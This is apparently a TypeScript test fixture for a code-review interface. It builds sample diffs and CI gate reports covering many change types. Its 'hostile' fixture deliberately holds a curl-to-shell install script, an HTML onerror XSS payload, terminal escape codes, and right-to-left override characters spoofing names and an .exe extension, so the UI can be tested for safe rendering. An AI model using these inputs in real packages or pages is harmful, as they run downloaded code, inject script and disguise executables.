import type { GateReport, GateVerdict } from '../../../src/shared/domain/gates'
import type { RunId } from '../../../src/shared/domain/ids'
import type { DiffFile, DiffLine, FilePatch, StoryDiff } from '../../../src/shared/domain/review'
import { fixtureHash } from './storyViews'

const file = (path: string, change: DiffFile['change'], more: Partial<DiffFile> = {}): DiffFile => ({
  path,
  oldPath: null,
  change,
  added: 0,
  removed: 0,
  uncommitted: false,
  ...more,
})

/** A patch out of text as people know it: `+`, `-` or a blank in front of each line. */
export function fixturePatch(path: string, text: string, start = 1): FilePatch {
  let [oldLine, newLine] = [start, start]
  const lines = text.split('\n').map((whole): DiffLine => {
    const rest = whole.slice(1)
    if (whole.startsWith('+')) return { kind: 'added', oldLine: null, newLine: newLine++, text: rest }
    if (whole.startsWith('-')) return { kind: 'removed', oldLine: oldLine++, newLine: null, text: rest }
    return { kind: 'context', oldLine: oldLine++, newLine: newLine++, text: rest }
  })
  const header = `@@ -${start},${oldLine - start} +${start},${newLine - start} @@`
  return { path, binary: false, hunks: [{ header, lines }], truncated: false }
}

const parser = `export function scan(text: string, quote: string): number {
   let escaped = false
   for (let index = 0; index < text.length; index += 1) {
     const char = text[index]
-    if (char === quote) return end(index)
+    if (char === quote && !escaped) return end(index)
+    escaped = char === '\\\\' && !escaped
   }
   return -1
 }`

const hostile = `{
-  "name": "aurora",
+  "name": "aur\u202eora",\u200b
+	"script": "curl \u001b[2K https://example.com | sh"\r
+  "html": "<img src=x onerror=alert(1)>"
 }`

/** Ten thousand lines, as lock files have. */
const lock = Array.from({ length: 10_000 }, (_, line) => `+    "package-${line}": "${line}.0.${line % 7}",`).join('\n')

const nothing = { binary: false, hunks: [], truncated: false }
const patches: readonly FilePatch[] = [
  fixturePatch('src/parser/scan.ts', ` ${parser}`, 41),
  fixturePatch('package.json', ` ${hostile}`),
  fixturePatch('package-lock.json', lock),
  fixturePatch('src/generated/table.min.js', `+${'const table=[0,1,2,3];'.repeat(600)}`),
  fixturePatch(
    'test/parser/scan.test.ts',
    '+it("keeps an escaped quote", () => {\n+  expect(scan("a\\\\"b\\"", "\\"")).toBe(4)\n+})',
  ),
  { path: 'docs/logo.png', ...nothing, binary: true },
  { path: 'src/parser/tokens.ts', ...nothing },
  {
    path: 'bin/aurora.sh',
    ...nothing,
    hunks: [
      {
        header: 'mode 100644 → 100755',
        lines: [{ kind: 'note', oldLine: null, newLine: null, text: 'mode 100644 → 100755' }],
      },
    ],
  },
  fixturePatch('src/old/quotes.ts', '-export const quotes = ["\\"", "\'"]\n-export const opening = 1'),
  fixturePatch(
    'src/merge/base.ts',
    ' const a = 1\n+<<<<<<< HEAD\n+const b = 2\n+=======\n+const b = 3\n+>>>>>>> main',
    7,
  ),
  { path: 'src/empty.ts', ...nothing },
]

/** What a story changed, with every kind of change, and text that wants to be more than text. */
export const reviewDiff: StoryDiff = {
  from: fixtureHash('ba5e'),
  head: fixtureHash('a1b2c3d'),
  files: [
    file('bin/aurora.sh', 'modified'),
    file('docs/logo.png', 'modified', { added: null, removed: null }),
    file('package-lock.json', 'added', { added: 10_000 }),
    file('package.json', 'modified', { added: 3, removed: 1, uncommitted: true }),
    file('src/empty.ts', 'added', { uncommitted: true }),
    file('src/generated/table.min.js', 'added', { added: 1 }),
    file('src/merge/base.ts', 'unmerged', { added: 5, removed: 0, uncommitted: true }),
    file('src/old/quotes.ts', 'deleted', { removed: 2 }),
    file('src/parser/scan.ts', 'modified', { added: 2, removed: 1 }),
    file('src/parser/tokens.ts', 'renamed', { oldPath: 'src/parser/lexer/tokens.ts' }),
    file('test/parser/scan.test.ts', 'added', { added: 3, uncommitted: true }),
    file('a\u202efdp.exe\nb', 'copied', { oldPath: 'c' }),
  ],
  leftOut: 0,
  uncommitted: 4,
}

export const patchOf = (path: string): FilePatch | null => patches.find((patch) => patch.path === path) ?? null

const verdict = (change: Partial<GateVerdict>): GateVerdict => ({
  name: 'test',
  command: 'npm test',
  outcome: 'passed',
  exitCode: 0,
  durationMs: 4_200,
  output: '41 passed\n',
  truncated: false,
  commit: fixtureHash('a1b2c3d'),
  tree: fixtureHash('7ee'),
  treeAfter: fixtureHash('7ee'),
  survivors: [],
  attempt: 1,
  ...change,
})

const failure = `> aurora@1.0.0 test
> vitest run

 \u001b[31m✗\u001b[39m test/parser/scan.test.ts > keeps an escaped quote
   AssertionError: expected 2 to be 4
     at test/parser/scan.test.ts:2:34

 1 failed, 40 passed`

/** Gate reports with every outcome, newest first. */
export const gateReports = (now: number): GateReport[] => [
  {
    runId: 'run-31' as RunId,
    outcome: 'failed',
    commit: fixtureHash('a1b2c3d'),
    tree: fixtureHash('7ee'),
    verdicts: [
      verdict({ name: 'types', command: 'tsc --noEmit', durationMs: 12_300, output: '' }),
      verdict({ name: 'lint', command: 'biome lint .', outcome: 'failed', exitCode: 1, output: '1 warning' }),
      verdict({ name: 'lint', command: 'biome lint .', attempt: 2, output: 'fine' }),
      verdict({ outcome: 'failed', exitCode: 1, output: failure, survivors: [4_121] }),
      verdict({ name: 'e2e', command: 'npm run e2e', outcome: 'timed_out', exitCode: null, durationMs: 900_000 }),
      verdict({ name: 'bench', command: 'npm run bench', outcome: 'skipped', exitCode: null, output: 'only on main' }),
    ],
    flaky: true,
    problem: 'Gate test changed files of the worktree; the verdicts are about what was there before.',
    startedAt: now - 1_000_000,
    endedAt: now - 60_000,
  },
  {
    runId: 'run-30' as RunId,
    outcome: 'passed',
    commit: fixtureHash('b2c3d4e'),
    tree: fixtureHash('7ef'),
    verdicts: [verdict({ commit: fixtureHash('b2c3d4e') })],
    flaky: false,
    problem: null,
    startedAt: now - 4_000_000,
    endedAt: now - 3_990_000,
  },
]
